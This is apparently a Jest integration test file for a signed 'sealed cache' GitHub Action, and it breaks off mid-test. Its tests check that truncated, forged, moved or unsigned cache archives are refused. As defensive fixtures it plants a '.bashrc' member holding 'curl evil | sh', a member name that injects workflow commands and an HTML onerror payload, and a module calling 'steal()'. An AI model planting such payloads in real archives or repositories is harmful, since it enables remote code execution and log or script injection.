/**
 * The sealed cache actions (cache/, cache/restore/, cache/save/) as the runner runs them: the
 * bundled steps on node24, `INPUT_*` from each action.yml, main then post with the state the main
 * step saved, against the loopback Actions cache service. Each damage an archive can carry is made
 * real (the service's stored blob truncated, a forged archive with one byte changed, a seal made by
 * a job without the key, an archive moved under another key, a member outside the sealed paths),
 * and each must be a clean miss with its reason and nothing written outside scratch.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFileSync, spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import zlib from 'node:zlib'
import { makeRepo, NODES, type ActionRepo } from '../../__fixtures__/action.js'
import {
  unseed,
  runStepOn,
  snapshotBundles,
  stepCacheEnv,
  type Bundles,
  type StepRun
} from '../../__fixtures__/cache-run.js'
import { startCacheServer, type CacheServer } from '../../__fixtures__/cache-server.js'
import { npmIn, registryReachable } from '../../__fixtures__/npm.js'
import { CACHE_YML, sealMember } from '../../__fixtures__/sealed-cache.js'
import { tarZst, type TarMember } from '../../__fixtures__/tar-build.js'

const NODE24 = NODES[0]!.bin
const YML = CACHE_YML
const HMAC = 'a'.repeat(64)
const OTHER_HMAC = 'b'.repeat(64)

let server: CacheServer
let bundles: Bundles
let tmp: string

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'swr-sealed-'))
  bundles = snapshotBundles(tmp)
  server = await startCacheServer()
}, 120_000)

afterAll(async () => {
  await server.close()
  fs.rmSync(tmp, { recursive: true, force: true })
})

/** A node_modules-like tree: nested packages, an executable, a link, an empty file. */
function install(root: string, variant = 'v1'): void {
  const nm = path.join(root, 'node_modules')
  fs.mkdirSync(path.join(nm, '.bin'), { recursive: true })
  for (const pkg of ['ms', 'esbuild', '@scope/a']) {
    const dir = path.join(nm, pkg)
    fs.mkdirSync(path.join(dir, 'lib'), { recursive: true })
    fs.writeFileSync(
      path.join(dir, 'package.json'),
      JSON.stringify({ name: pkg, version: variant })
    )
    fs.writeFileSync(
      path.join(dir, 'lib', 'index.js'),
      `module.exports = '${pkg} ${variant}'\n`.repeat(50)
    )
  }
  fs.writeFileSync(path.join(nm, 'esbuild', 'bin'), '#!/bin/sh\necho esbuild\n', { mode: 0o755 })
  fs.chmodSync(path.join(nm, 'esbuild', 'bin'), 0o755)
  fs.writeFileSync(path.join(nm, 'ms', 'empty'), '')
  fs.symlinkSync('../esbuild/bin', path.join(nm, '.bin', 'esbuild'))
}

/** Every path below `dir` with its type, mode, size and sha256 (or link target). */
function state(dir: string): string[] {
  const out: string[] = []
  const walk = (d: string, rel: string): void => {
    for (const name of fs.readdirSync(d).sort()) {
      const abs = path.join(d, name)
      const r = rel ? `${rel}/${name}` : name
      const st = fs.lstatSync(abs)
      if (st.isSymbolicLink()) out.push(`${r} l ${fs.readlinkSync(abs)}`)
      else if (st.isDirectory()) {
        out.push(`${r} d ${(st.mode & 0o7777).toString(8)}`)
        walk(abs, r)
      } else
        out.push(
          `${r} f ${(st.mode & 0o7777).toString(8)} ${createHash('sha256').update(fs.readFileSync(abs)).digest('hex')}`
        )
    }
  }
  walk(dir, '')
  return out
}

function step(
  script: string,
  repo: ActionRepo,
  yml: string,
  inputs: Record<string, string>,
  st: Record<string, string> = {}
): Promise<StepRun> {
  return runStepOn(NODE24, script, repo, {
    actionYml: yml,
    inputs,
    state: st,
    env: stepCacheEnv(server, repo)
  })
}

function report(r: StepRun): {
  outcome: string
  reason: string | null
  matched_key: string | null
  signed_by: string[]
  restored: boolean
  wipe_signature: string
} {
  return JSON.parse(r.outputs.report ?? '{}')
}

/** A job of the `cache` action: main, then (when it succeeded and `build` ran) post. */
async function job(
  repo: ActionRepo,
  inputs: Record<string, string>,
  build?: () => void
): Promise<{ main: StepRun; post: StepRun }> {
  const main = await step(bundles.cacheMain, repo, YML.cache, inputs)
  build?.()
  const post = await step(bundles.cachePost, repo, YML.cache, inputs, main.state)
  return { main, post }
}

/** Nothing but the scratch base itself is left in RUNNER_TEMP by a refused restore. */
function leftInTemp(repo: ActionRepo): string[] {
  return fs.readdirSync(repo.runnerTemp).filter(n => n.startsWith('swr-'))
}

/**
 * A fresh runner: its own workspace folder, home and RUNNER_TEMP (the cache version depends only
 * on the key and the `path` lines, never on where the job runs).
 */
function freshRepo(): ActionRepo {
  return makeRepo()
}

/**
 * A runner laid out differently: the workspace deeper under other folder names, RUNNER_TEMP and
 * the home elsewhere (another self-hosted install, a container job).
 */
function otherLayout(): ActionRepo {
  const repo = makeRepo()
  const root = path.join(repo.base, 'actions-runner', '_work', 'project', 'project')
  const runnerTemp = path.join(repo.base, 'actions-runner', '_work', '_temp')
  const home = path.join(repo.base, 'github', 'home')
  for (const d of [root, runnerTemp, home]) fs.mkdirSync(d, { recursive: true })
  return { ...repo, root, runnerTemp, home }
}

/** The seal member of a stored archive. */
function sealOf(key: string): Buffer {
  return sealMember(server, key)
}

/** A tree's members for a hand-built archive, named as the cache client names them. */
function membersOf(dir: string, prefix: string): TarMember[] {
  const out: TarMember[] = [
    { name: `${prefix}/`, type: 'dir', mode: fs.statSync(dir).mode & 0o7777 }
  ]
  const walk = (d: string, rel: string): void => {
    for (const name of fs.readdirSync(d).sort()) {
      const abs = path.join(d, name)
      const r = `${rel}/${name}`
      const st = fs.lstatSync(abs)
      if (st.isSymbolicLink()) out.push({ name: r, type: 'symlink', target: fs.readlinkSync(abs) })
      else if (st.isDirectory()) {
        out.push({ name: `${r}/`, type: 'dir', mode: st.mode & 0o7777 })
        walk(abs, r)
      } else out.push({ name: r, data: fs.readFileSync(abs), mode: st.mode & 0o7777 })
    }
  }
  walk(dir, prefix)
  return out
}

/** The seal's name in every sealed archive. */
function sealName(_repo: ActionRepo): string {
  return '.swr-seal.json'
}

describe('one entry per key and path text, wherever the job runs', () => {
  it('another RUNNER_TEMP, workspace folder and home: an exact hit, ~/ paths included', async () => {
    const inputs = { path: 'node_modules\n~/.cache/tool', 'hmac-key': HMAC, key: 'layout-1' }
    // Job a: the usual layout of this test file.
    const a = freshRepo()
    fs.mkdirSync(path.join(a.home, '.cache', 'tool'), { recursive: true })
    fs.writeFileSync(path.join(a.home, '.cache', 'tool', 'index'), 'cached\n')
    const saved = await job(a, inputs, () => install(a.root))
    expect(saved.post.stdout).toMatch(/saved them under key layout-1/)
    expect(fs.existsSync(path.join(a.root, '.swr-seal'))).toBe(false)
    // Job b: a runner installed elsewhere: its own temp, its workspace deeper, its home apart.
    const other = makeRepo()
    const root = path.join(other.base, 'actions-runner', '_work', 'repo', 'repo')
    fs.mkdirSync(root, { recursive: true })
    const home = path.join(other.base, 'users', 'runner')
    fs.mkdirSync(home, { recursive: true })
    const b: ActionRepo = { ...other, root, home, runnerTemp: other.runnerTemp }
    const r = await step(bundles.cacheRestore, b, YML.restore, inputs)
    expect(r.code).toBe(0)
    expect(r.outputs['cache-hit']).toBe('true')
    expect(state(path.join(b.root, 'node_modules'))).toEqual(
      state(path.join(a.root, 'node_modules'))
    )
    expect(fs.readFileSync(path.join(home, '.cache', 'tool', 'index'), 'utf8')).toBe('cached\n')
    expect(fs.existsSync(path.join(b.root, '.swr-seal'))).toBe(false)
  }, 180_000)
})

describe('the sealed cache action over a project life', () => {
  const base = { path: 'node_modules', 'hmac-key': HMAC }

  it('a miss installs and seals; a fresh runner restores every byte; a damaged tree on disk is named and healed', async () => {
    const a = freshRepo()
    const first = await job(a, { ...base, key: 'deps-linux-1' }, () => install(a.root))
    expect(first.main.code).toBe(0)
    expect(first.main.outputs['cache-hit']).toBe('false')
    expect(report(first.main).outcome).toBe('miss')
    expect(first.post.code).toBe(0)
    expect(first.post.stdout).toMatch(
      /sealed \d+ files \(signed by hmac [0-9a-f]{16}\) and saved them under key deps-linux-1/
    )
    expect(leftInTemp(a)).toEqual([])

    const b = freshRepo()
    const second = await job(b, { ...base, key: 'deps-linux-1' })
    expect(second.main.code).toBe(0)
    expect(second.main.outputs['cache-hit']).toBe('true')
    expect(second.main.outputs['cache-matched-key']).toBe('deps-linux-1')
    expect(second.main.outputs.healthy).toBe('true')
    expect(second.main.outputs['wipe-signature']).toBe('cold-start')
    expect(report(second.main).signed_by[0]).toMatch(/^hmac /)
    expect(state(path.join(b.root, 'node_modules'))).toEqual(
      state(path.join(a.root, 'node_modules'))
    )
    expect(second.post.stdout).toMatch(/cache hit on the primary key deps-linux-1: not saving/)

    // Kept by the runner, intact: only the seal is read. Then an exec bit stripped: named, healed.
    const again = await step(bundles.cacheRestore, b, YML.restore, { ...base, key: 'deps-linux-1' })
    expect(again.outputs['cache-hit']).toBe('true')
    expect(report(again).restored).toBe(false)
    fs.chmodSync(path.join(b.root, 'node_modules/esbuild/bin'), 0o644)
    const healed = await step(bundles.cacheRestore, b, YML.restore, {
      ...base,
      key: 'deps-linux-1'
    })
    expect(healed.outputs['wipe-signature']).toBe('permission-reset')
    expect(report(healed).restored).toBe(true)
    expect(state(path.join(b.root, 'node_modules'))).toEqual(
      state(path.join(a.root, 'node_modules'))
    )
  }, 180_000)

  it('the same key and path lines from another RUNNER_TEMP, workspace folder and home are an exact hit', async () => {
    const inputs = { ...base, path: 'node_modules\n~/.npm', key: 'layout-1' }
    const a = freshRepo()
    const npmCache = (r: ActionRepo): string => path.join(r.home, '.npm')
    const saved = await job(a, inputs, () => {
      install(a.root)
      fs.mkdirSync(path.join(npmCache(a), '_cacache'), { recursive: true })
      fs.writeFileSync(path.join(npmCache(a), '_cacache', 'index'), 'npm cache\n')
    })
    expect(saved.post.stdout).toMatch(/saved them under key layout-1/)

    const b = otherLayout()
    expect(b.runnerTemp).not.toBe(a.runnerTemp)
    expect(path.relative(b.base, b.root)).not.toBe(path.relative(a.base, a.root))
    const hit = await job(b, inputs)
    expect(hit.main.code).toBe(0)
    expect(report(hit.main).reason).toBeNull()
    expect(hit.main.outputs['cache-hit']).toBe('true')
    expect(state(path.join(b.root, 'node_modules'))).toEqual(
      state(path.join(a.root, 'node_modules'))
    )
    expect(state(npmCache(b))).toEqual(state(npmCache(a)))

    // Plain tar extracts the archive: the seal, then the paths named by what the lines say.
    const out = fs.mkdtempSync(path.join(tmp, 'plain-'))
    const tarBytes = execFileSync('zstd', ['-d', '-c', server.blobPath('layout-1')], {
      maxBuffer: 1 << 30
    })
    execFileSync('tar', ['-xf', '-', '-C', out], { input: tarBytes })
    expect(fs.readdirSync(out).sort()).toEqual(['.swr-seal.json', 'node_modules', '~'])
    expect(state(path.join(out, 'node_modules'))).toEqual(state(path.join(a.root, 'node_modules')))
    expect(state(path.join(out, '~', '.npm'))).toEqual(state(npmCache(a)))

    // actions/cache's own restoreCache of the same key and lines computes another version: a
    // clean miss, nothing extracted.
    const c = freshRepo()
    expect(await unseed(stepCacheEnv(server, c), ['node_modules', '~/.npm'], 'layout-1')).toBe(
      undefined
    )
    expect(fs.existsSync(path.join(c.root, 'node_modules'))).toBe(false)

    // Keys are immutable: a second save of the key says it exists and uploads nothing.
    const again = await step(bundles.cacheSave, b, YML.save, inputs)
    expect(again.code).toBe(0)
    expect(again.stdout).toMatch(/a cache for key layout-1 exists already/)
  }, 180_000)

  it('the post step saves under the primary key the main step computed, not its re-read key input', async () => {
    const a = freshRepo()
    const main = await step(bundles.cacheMain, a, YML.cache, { ...base, key: 'primary-main' })
    expect(main.state['swr-cache-primary-key']).toBe('primary-main')
    install(a.root)
    // The runner evaluates the post step's inputs again: a hashFiles() key now reads differently.
    const post = await step(
      bundles.cachePost,
      a,
      YML.cache,
      { ...base, key: 'primary-changed' },
      main.state
    )
    expect(post.code).toBe(0)
    expect(post.stdout).toMatch(/saved them under key primary-main/)
    const b = freshRepo()
    const miss = await step(bundles.cacheRestore, b, YML.restore, {
      ...base,
      key: 'primary-changed'
    })
    expect(report(miss).outcome).toBe('miss')
    const hit = await step(bundles.cacheRestore, b, YML.restore, { ...base, key: 'primary-main' })
    expect(hit.outputs['cache-hit']).toBe('true')
  }, 120_000)

  it('a dependency bump restores the older seal as stale, names both keys, and saves the new state', async () => {
    const a = freshRepo()
    await job(a, { ...base, key: 'bump-lock1' }, () => install(a.root, 'v1'))
    const b = freshRepo()
    const inputs = { ...base, key: 'bump-lock2', 'restore-keys': 'bump-' }
    const bumped = await job(b, inputs, () => {
      fs.rmSync(path.join(b.root, 'node_modules'), { recursive: true })
      install(b.root, 'v2')
    })
    expect(bumped.main.outputs['cache-hit']).toBe('false')
    expect(bumped.main.outputs.stale).toBe('true')
    expect(bumped.main.outputs['cache-matched-key']).toBe('bump-lock1')
    expect(bumped.main.stdout).toMatch(
      /STALE: restored from key bump-lock1, not the primary key bump-lock2/
    )
    expect(bumped.post.stdout).toMatch(/saved them under key bump-lock2/)
    const c = freshRepo()
    const next = await step(bundles.cacheRestore, c, YML.restore, { ...base, key: 'bump-lock2' })
    expect(next.outputs['cache-hit']).toBe('true')
    expect(fs.readFileSync(path.join(c.root, 'node_modules/ms/package.json'), 'utf8')).toMatch(/v2/)
  }, 180_000)
})

describe('damaged and hostile archives are a clean miss with the reason, nothing written', () => {
  const base = { path: 'node_modules', 'hmac-key': HMAC }
  let saved: ActionRepo

  beforeAll(async () => {
    saved = freshRepo()
    install(saved.root)
    for (const key of [
      'dmg-truncate',
      'dmg-flip',
      'dmg-byte',
      'dmg-moved',
      'dmg-inject',
      'dmg-swap'
    ])
      expect((await step(bundles.cacheSave, saved, YML.save, { ...base, key })).code).toBe(0)
  }, 180_000)

  async function refused(key: string, inputs: Record<string, string> = base): Promise<StepRun> {
    const r = freshRepo()
    const run = await step(bundles.cacheRestore, r, YML.restore, { ...inputs, key })
    expect(run.code).toBe(0)
    expect(run.outputs['cache-hit']).toBe('false')
    expect(run.outputs.healthy).toBe('false')
    expect(report(run).outcome).toBe('refused')
    expect(fs.existsSync(path.join(r.root, 'node_modules'))).toBe(false)
    expect(leftInTemp(r)).toEqual([])
    return run
  }

  it('a truncated archive', async () => {
    server.corrupt('dmg-truncate', 'truncate')
    const run = await refused('dmg-truncate')
    expect(report(run).reason).toMatch(/truncated|corrupt/)
  }, 60_000)

  it('a flipped block of the compressed archive', async () => {
    server.corrupt('dmg-flip', 'flip')
    await refused('dmg-flip')
  }, 60_000)

  it('one same-size byte changed in one file, the seal kept', async () => {
    const seal = sealOf('dmg-byte')
    const members = membersOf(path.join(saved.root, 'node_modules'), 'node_modules').map(m =>
      m.name === 'node_modules/ms/lib/index.js' && 'data' in m && Buffer.isBuffer(m.data)
        ? { ...m, data: Buffer.from(m.data.toString('utf8').replace('ms v1', 'ms V1')) }
        : m
    )
    server.poison(
      'dmg-byte',
      tarZst([{ name: sealName(saved), data: seal, mode: 0o600 }, ...members])
    )
    const run = await refused('dmg-byte')
    expect(report(run).reason).toMatch(
      /ms\/lib\/index\.js: content differs from the recorded sha256/
    )
  }, 60_000)

  it('an archive replaced between the read of its seal and the full download', async () => {
    // Another validly sealed archive of the same key and paths (made by another store's save),
    // served from the second download on: the job judged the tree on disk against the first seal.
    const other = await startCacheServer()
    try {
      const b = freshRepo()
      install(b.root, 'v2')
      const made = await runStepOn(NODE24, bundles.cacheSave, b, {
        actionYml: YML.save,
        inputs: { ...base, key: 'dmg-swap' },
        env: stepCacheEnv(other, b)
      })
      expect(made.code).toBe(0)
      server.poisonAfterDownload('dmg-swap', fs.readFileSync(other.blobPath('dmg-swap')))
    } finally {
      await other.close()
    }
    // Something is on disk (so the seal is read first) and damaged (so the archive is read again).
    const r = freshRepo()
    install(r.root)
    const damaged = path.join(r.root, 'node_modules/ms/lib/index.js')
    fs.writeFileSync(damaged, 'damaged\n')
    const before = state(path.join(r.root, 'node_modules'))
    const run = await step(bundles.cacheRestore, r, YML.restore, { ...base, key: 'dmg-swap' })
    expect(run.code).toBe(0)
    expect(run.outputs['cache-hit']).toBe('false')
    expect(report(run).outcome).toBe('refused')
    expect(report(run).reason).toMatch(/the seal changed between two downloads of the same archive/)
    expect(state(path.join(r.root, 'node_modules'))).toEqual(before)
    expect(leftInTemp(r)).toEqual([])
  }, 90_000)

  it('an archive and seal moved under another key', async () => {
    server.poison('dmg-moved', fs.readFileSync(server.blobPath('dmg-inject')))
    const run = await refused('dmg-moved')
    expect(report(run).reason).toMatch(/made for key dmg-inject, not dmg-moved/)
  }, 60_000)

  it('a member outside the sealed paths', async () => {
    const seal = sealOf('dmg-inject')
    const members = membersOf(path.join(saved.root, 'node_modules'), 'node_modules')
    server.poison(
      'dmg-inject',
      tarZst([
        { name: sealName(saved), data: seal, mode: 0o600 },
        ...members,
        { name: '.bashrc', data: 'curl evil | sh\n' }
      ])
    )
    const run = await refused('dmg-inject')
    expect(report(run).reason).toMatch(/member outside the sealed paths: \.bashrc/)
  }, 60_000)

  it('a hostile member name reaches the log escaped and the summary inert', async () => {
    server.poison(
      'dmg-truncate',
      tarZst([{ name: 'x\n::error::forged\n<img src=x onerror=alert(1)>|`', data: 'x' }])
    )
    const run = await refused('dmg-truncate')
    expect(run.commands.filter(c => c.command === 'error')).toEqual([])
    expect(run.stdout).not.toMatch(/^::error::forged/m)
    // Every < and | escaped: Markdown shows them, GitHub renders no tag and splits no cell.
    expect(run.summary).not.toMatch(/(^|[^\\])<img/m)
    expect(run.summary).toContain('\\<img')
  }, 60_000)

  it('an unsealed archive (a plain tar of the paths)', async () => {
    const r = freshRepo()
    install(r.root)
    expect((await step(bundles.cacheSave, r, YML.save, { ...base, key: 'dmg-plain' })).code).toBe(0)
    server.poison('dmg-plain', tarZst(membersOf(path.join(r.root, 'node_modules'), 'node_modules')))
    const run = await refused('dmg-plain')
    expect(report(run).reason).toMatch(/no seal/)
  }, 60_000)

  it('require-seal signed: an unsigned seal is refused before its indexes are inflated', async () => {
    // An unsigned seal whose index would not even decode: judged on its head first, it is refused
    // for its signature; its index is never inflated (which, at the seal's size bound, costs
    // minutes and gigabytes).
    const attacker = freshRepo()
    install(attacker.root)
    await step(bundles.cacheSave, attacker, YML.save, { path: 'node_modules', key: 'pr-heavy' })
    const doc = JSON.parse(sealMember(server, 'pr-heavy').toString('utf8'))
    doc.body.paths[0].index = Buffer.from('not the index').toString('base64')
    const members = membersOf(path.join(attacker.root, 'node_modules'), 'node_modules')
    server.poison(
      'pr-heavy',
      tarZst([
        { name: sealName(attacker), data: Buffer.from(`${JSON.stringify(doc)}\n`), mode: 0o600 },
        ...members
      ])
    )
    const run = await refused('pr-heavy')
    expect(report(run).reason).toMatch(/the seal is unsigned, and require-seal is signed/)
    // Without a key the same archive is judged further, and its index is what refuses it.
    const open = freshRepo()
    const any = await step(bundles.cacheRestore, open, YML.restore, {
      path: 'node_modules',
      key: 'pr-heavy'
    })
    expect(any.outputs['cache-hit']).toBe('false')
    expect(report(any).reason).toMatch(/index does not match its recorded digest/)
  }, 120_000)

  it('require-seal signed: a seal made by a job without the key, or with another key, is refused', async () => {
    const poisoner = freshRepo()
    install(poisoner.root)
    fs.writeFileSync(
      path.join(poisoner.root, 'node_modules/ms/lib/index.js'),
      'module.exports = () => steal()\n'
    )
    await step(bundles.cacheSave, poisoner, YML.save, { path: 'node_modules', key: 'pr-unsigned' })
    await step(bundles.cacheSave, poisoner, YML.save, {
      path: 'node_modules',
      key: 'pr-other',
      'hmac-key': OTHER_HMAC
    })
    expect(report(await refused('pr-unsigned')).reason).toMatch(
      /the seal is unsigned, and require-seal is signed/
    )
    expect(report(await refused('pr-other')).reason).toMatch(/signed by no key this job trusts/)
    // Without any key the gate asks only for a seal: the same archive restores (and says unsigned).
    const open = freshRepo()
    const any = await step(bundles.cacheRestore, open, YML.restore, {
      path: 'node_modules',
      key: 'pr-unsigned'
    })
    expect(any.outputs['cache-hit']).toBe('true')
    expect(any.stdout).toMatch(/unsigned or by no key this job knows/)
  }, 120_000)
})

describe("the rest of actions/cache's surface, and ML-DSA seals", () => {
  /** A machine's ML-DSA seed (as `swr keygen` writes it) and its fingerprint. */
  function identity(): { seed: string; fingerprint: string } {
    const r = freshRepo()
    const env = { PATH: process.env.PATH, HOME: r.home, SWR_STATE_DIR: r.stateDir }
    execFileSync(process.execPath, [bundles.cli, 'keygen', '--no-hmac', '--no-sync'], { env })
    const mine = execFileSync(process.execPath, [bundles.cli, 'trust', 'mine', '--json'], {
      env,
      encoding: 'utf8'
    })
    return {
      seed: fs.readFileSync(path.join(r.stateDir, 'keys', 'mldsa87.seed'), 'utf8').trim(),
      fingerprint: (JSON.parse(mine) as { fingerprint: string }).fingerprint
    }
  }

  it('a seal signed with signing-key restores for trusted-signers, and not for another signer', async () => {
    const signer = identity()
    const stranger = identity()
    const a = freshRepo()
    install(a.root)
    const saved = await step(bundles.cacheSave, a, YML.save, {
      path: 'node_modules',
      key: 'mldsa-1',
      'signing-key': signer.seed
    })
    expect(saved.stdout).toMatch(/signed by ml-dsa [0-9a-f]{16}/)
    // Registered as a secret (the runner masks it), printed nowhere else.
    const printed = saved.stdout.split('\n').filter(l => !l.startsWith('::add-mask::'))
    expect(printed.join('\n')).not.toContain(signer.seed)
    const b = freshRepo()
    const ok = await step(bundles.cacheRestore, b, YML.restore, {
      path: 'node_modules',
      key: 'mldsa-1',
      'trusted-signers': signer.fingerprint
    })
    expect(ok.outputs['cache-hit']).toBe('true')
    expect(report(ok).signed_by[0]).toBe(`ml-dsa ${signer.fingerprint.slice(0, 16)}`)
    const c = freshRepo()
    const no = await step(bundles.cacheRestore, c, YML.restore, {
      path: 'node_modules',
      key: 'mldsa-1',
      'trusted-signers': stranger.fingerprint
    })
    expect(report(no).outcome).toBe('refused')
    expect(fs.existsSync(path.join(c.root, 'node_modules'))).toBe(false)
  }, 120_000)

  it('lookup-only reads the seal and writes nothing; fail-on-cache-miss fails a miss in one line', async () => {
    const a = freshRepo()
    install(a.root)
    await step(bundles.cacheSave, a, YML.save, { path: 'node_modules', key: 'look-1' })
    const b = freshRepo()
    const look = await step(bundles.cacheRestore, b, YML.restore, {
      path: 'node_modules',
      key: 'look-1',
      'lookup-only': 'true'
    })
    expect(look.outputs['cache-hit']).toBe('true')
    expect(report(look).restored).toBe(false)
    expect(fs.existsSync(path.join(b.root, 'node_modules'))).toBe(false)
    const miss = await step(bundles.cacheRestore, b, YML.restore, {
      path: 'node_modules',
      key: 'look-none',
      'fail-on-cache-miss': 'true'
    })
    expect(miss.code).toBe(1)
    expect(miss.commands.filter(c => c.command === 'error')).toHaveLength(1)
    expect(fs.existsSync(path.join(b.root, 'node_modules'))).toBe(false)
  }, 60_000)

  it('several paths: a tree, a single file and a directory under ~/ come back where they belong', async () => {
    const a = freshRepo()
    install(a.root)
    fs.writeFileSync(path.join(a.root, 'tool.bin'), 'binary\n', { mode: 0o755 })
    fs.chmodSync(path.join(a.root, 'tool.bin'), 0o755)
    fs.mkdirSync(path.join(a.home, '.cache', 'tool'), { recursive: true })
    fs.writeFileSync(path.join(a.home, '.cache', 'tool', 'index'), 'cached\n')
    const inputs = {
      path: 'node_modules\ntool.bin\n~/.cache/tool',
      key: 'multi-1',
      'hmac-key': HMAC
    }
    expect((await step(bundles.cacheSave, a, YML.save, inputs)).code).toBe(0)
    const b = freshRepo()
    const r = await step(bundles.cacheRestore, b, YML.restore, inputs)
    expect(r.outputs['cache-hit']).toBe('true')
    expect(state(path.join(b.root, 'node_modules'))).toEqual(
      state(path.join(a.root, 'node_modules'))
    )
    expect(fs.statSync(path.join(b.root, 'tool.bin')).mode & 0o777).toBe(0o755)
    expect(fs.readFileSync(path.join(b.home, '.cache', 'tool', 'index'), 'utf8')).toBe('cached\n')
  }, 60_000)
})

describe('path as actions/cache reads it: globs, ~, exclusions', () => {
  const withCache = (root: string): void => {
    install(root)
    fs.mkdirSync(path.join(root, 'node_modules', '.cache', 'babel'), { recursive: true })
    fs.writeFileSync(path.join(root, 'node_modules', '.cache', 'babel', 'x.json'), 'cached\n')
  }

  it('**/node_modules saves every node_modules of a monorepo and a fresh runner restores them all', async () => {
    const a = freshRepo()
    const inputs = { path: '**/node_modules', key: 'glob-1', 'hmac-key': HMAC }
    const saved = await job(a, inputs, () => {
      install(a.root)
      install(path.join(a.root, 'packages', 'web'), 'web')
      fs.mkdirSync(path.join(a.root, 'packages', 'empty'), { recursive: true })
    })
    expect(saved.post.code).toBe(0)
    expect(saved.post.stdout).toMatch(/saved them under key glob-1/)
    const seal = JSON.parse(sealOf('glob-1').toString('utf8'))
    expect(seal.body.patterns).toEqual(['**/node_modules'])
    expect(seal.body.paths.map((p: { spelling: string }) => p.spelling)).toEqual([
      'node_modules',
      'packages/web/node_modules'
    ])

    const b = otherLayout()
    const hit = await job(b, inputs)
    expect(hit.main.outputs['cache-hit']).toBe('true')
    for (const rel of ['node_modules', 'packages/web/node_modules'])
      expect(state(path.join(b.root, rel))).toEqual(state(path.join(a.root, rel)))
    expect(fs.existsSync(path.join(b.root, 'packages', 'empty'))).toBe(false)
  }, 120_000)

  it('node_modules + !node_modules/.cache: .cache is not saved, and not touched on restore', async () => {
    const a = freshRepo()
    const inputs = { path: 'node_modules\n!node_modules/.cache', key: 'excl-1', 'hmac-key': HMAC }
    const saved = await job(a, inputs, () => withCache(a.root))
    expect(saved.post.stdout).toMatch(/saved them under key excl-1/)
    const out = fs.mkdtempSync(path.join(tmp, 'excl-'))
    execFileSync('tar', ['-xf', '-', '-C', out], {
      input: execFileSync('zstd', ['-d', '-c', server.blobPath('excl-1')], { maxBuffer: 1 << 30 })
    })
    expect(fs.existsSync(path.join(out, 'node_modules', 'ms', 'package.json'))).toBe(true)
    expect(fs.existsSync(path.join(out, 'node_modules', '.cache'))).toBe(false)
    const without = (root: string): string[] =>
      state(path.join(root, 'node_modules')).filter(l => !l.startsWith('.cache'))

    // A fresh runner: the included files, and no .cache.
    const b = freshRepo()
    const hit = await job(b, inputs)
    expect(hit.main.outputs['cache-hit']).toBe('true')
    expect(without(b.root)).toEqual(without(a.root))
    expect(fs.existsSync(path.join(b.root, 'node_modules', '.cache'))).toBe(false)

    // A runner with its own .cache and damage elsewhere: healed, its .cache left as it was.
    const c = freshRepo()
    withCache(c.root)
    fs.writeFileSync(path.join(c.root, 'node_modules', '.cache', 'babel', 'x.json'), 'mine\n')
    fs.writeFileSync(path.join(c.root, 'node_modules', 'ms', 'package.json'), 'damaged')
    const healed = await job(c, inputs)
    expect(healed.main.outputs['cache-hit']).toBe('true')
    expect(report(healed.main).restored).toBe(true)
    expect(without(c.root)).toEqual(without(a.root))
    expect(
      fs.readFileSync(path.join(c.root, 'node_modules', '.cache', 'babel', 'x.json'), 'utf8')
    ).toBe('mine\n')
    expect(fs.readdirSync(c.root).filter(n => n.startsWith('.swr-'))).toEqual([])
  }, 120_000)

  it('a pattern that matches nothing saves nothing and says so in one warning line', async () => {
    const a = freshRepo()
    const inputs = { path: 'node_modules\n~/.cache/none-*', key: 'none-1', 'hmac-key': HMAC }
    const some = await job(a, inputs, () => install(a.root))
    expect(some.post.code).toBe(0)
    const warnings = some.post.commands.filter(c => c.command === 'warning')
    expect(warnings).toHaveLength(1)
    expect(warnings[0]?.message).toMatch(/path "~\/.cache\/none-\*" matched nothing/)
    expect(some.post.stdout).toMatch(/saved them under key none-1/)

    const b = freshRepo()
    const nothing = await job(b, { ...inputs, path: 'build/**/out', key: 'none-2' })
    expect(nothing.post.code).toBe(0)
    expect(nothing.post.commands.filter(c => c.command === 'error')).toEqual([])
    expect(nothing.post.stdout + nothing.post.stderr).toMatch(/matched nothing/)
  }, 120_000)

  it('a seal whose paths the lines do not select, or that drops an exclusion, is refused', async () => {
    const a = freshRepo()
    withCache(a.root)
    const key = 'excl-forged'
    const lines = 'node_modules\n!node_modules/.cache'
    const seal = (body: Record<string, unknown>): Buffer =>
      Buffer.from(JSON.stringify({ body, signatures: [] }) + '\n')
    await step(bundles.cacheSave, a, YML.save, { path: lines, key })
    const src = JSON.parse(sealOf(key).toString('utf8'))
    const first = src.body.paths[0]
    expect(first.entry.ignore).toEqual(['/.cache'])
    const widened = { ...first.entry, ignore: ['/.cache/none'] }
    const members = membersOf(path.join(a.root, 'node_modules'), 'node_modules')
    // A writer of the cache without the key: a seal that keeps .cache, and one that names .git.
    for (const [body, why] of [
      [
        { ...src.body, paths: [{ ...first, entry: widened }] },
        /leaves out \/.cache\/none, the path lines \/.cache$/
      ],
      [
        { ...src.body, paths: [{ ...first, spelling: '.git', member: '.git' }] },
        /not selected by the path lines|does not end in the entry's name/
      ]
    ] as const) {
      server.poison(
        key,
        tarZst([{ name: '.swr-seal.json', data: seal(body), mode: 0o600 }, ...members])
      )
      const r = freshRepo()
      const run = await step(bundles.cacheRestore, r, YML.restore, { path: lines, key })
      expect(report(run).outcome).toBe('refused')
      expect(report(run).reason).toMatch(why)
      expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
    }
  }, 120_000)
})

describe('hard links stay hard links, inside the restored set only', () => {
  /** A cargo-like target/: one object under two names (one inode, link count 2). */
  const build = (root: string): void => {
    const deps = path.join(root, 'target', 'debug', 'deps')
    fs.mkdirSync(deps, { recursive: true })
    fs.writeFileSync(path.join(deps, 'app-1a2b'), 'ELF binary\n'.repeat(100), { mode: 0o755 })
    fs.chmodSync(path.join(deps, 'app-1a2b'), 0o755)
    fs.linkSync(path.join(deps, 'app-1a2b'), path.join(root, 'target', 'debug', 'app'))
    fs.writeFileSync(path.join(deps, 'libdep.rlib'), 'rlib\n')
  }
  const inputs = { path: 'target', key: 'links-1', 'hmac-key': HMAC }

  it('a target/ with two names for one file restores with link count 2', async () => {
    const a = freshRepo()
    const saved = await job(a, inputs, () => build(a.root))
    expect(saved.post.stdout).toMatch(/saved them under key links-1/)
    const seal = JSON.parse(sealOf('links-1').toString('utf8'))
    expect(seal.body.paths[0].links).toEqual([['debug/deps/app-1a2b', 'debug/app']])

    const b = freshRepo()
